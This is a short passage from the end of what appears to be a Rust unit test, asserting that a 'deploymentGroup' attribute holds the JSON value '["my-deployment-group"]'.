        attributes["deploymentGroup"]["Value"],
        r#"["my-deployment-group"]"#
    );
}
